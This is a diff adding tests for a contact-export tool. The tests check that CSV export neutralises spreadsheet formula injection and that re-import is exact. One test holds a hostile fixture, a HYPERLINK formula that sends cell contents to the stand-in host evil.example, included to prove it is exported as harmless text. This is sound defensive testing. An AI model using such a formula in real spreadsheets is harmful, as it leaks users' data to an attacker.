@@ -127,3 +127,56 @@ def test_any_contact_survives_export_then_import(
     report = run_import(store, path, ImportOptions("copy"))
     assert report.counts["created"] == 1, report
     assert contents(store, "copy") == contents(store, "source")
+
+
+# -- cells a spreadsheet would run -----------------------------------------------------------------------
+
+_local = st.text(alphabet="=+-'@\tab1", min_size=1, max_size=6).map(lambda s: "x" + s if s[0] == "@" else s)
+
+
+@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(
+    locals_=st.lists(_local, min_size=1, max_size=5, unique_by=str.lower),
+    attrs=st.dictionaries(_text, _text, max_size=3),
+    lead=st.sampled_from(["", "\t", "\r", " ", "\n"]),
+)
+def test_cells_a_spreadsheet_runs_are_neutralised_and_reimport_exactly(
+    store: SqliteContactStore, tmp_path: Path, locals_: list[str], attrs: dict[str, str], lead: str
+) -> None:
+    """Addresses like ``-2+3@example.com`` and ``'=x@example.com``, attributes text starting with a tab (the
+    SES API stores any text): no cell starts with = + - @ tab or CR, and the re-import is exact."""
+    import csv
+
+    import orjson
+
+    from sescontacts.validation import email_problem
+
+    emails = [f"{local}@example.com" for local in locals_ if email_problem(f"{local}@example.com") is None]
+    for name in ("source", "copy"):
+        store.delete_contacts(name, [c.email for c in store.list_contacts(name, page_size=1000).items])
+    for email in emails:
+        store.create_contact("source", Contact(email, False, {}, lead + orjson.dumps(attrs).decode()))
+    fast, generic = io.BytesIO(), io.BytesIO()
+    export(store, "source", ContactQuery(), "csv", fast)
+    _export_pages(store, "source", ContactQuery(), "csv", generic)
+    assert fast.getvalue() == generic.getvalue()
+    for row in csv.reader(io.StringIO(fast.getvalue().decode(), newline="")):
+        assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in row), row
+    path = tmp_path / "out.csv"
+    path.write_bytes(fast.getvalue())
+    report = run_import(store, path, ImportOptions("copy"))
+    assert report.counts["created"] == len(emails) and report.counts["rejected"] == 0, report
+    assert contents(store, "copy") == contents(store, "source")
+
+
+def test_a_formula_in_attributes_is_exported_as_text(store: SqliteContactStore) -> None:
+    """AttributesData that is not an object (possible through the SES API), starting with ``=``."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    store.create_contact("source", Contact("=a@example.com", False, {}, formula))
+    for path in (export, _export_pages):
+        out = io.BytesIO()
+        path(store, "source", ContactQuery(), "csv", out)  # type: ignore[operator]
+        assert (
+            out.getvalue().decode().splitlines()[1]
+            == '\'=a@example.com,false,"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",,'
+        )
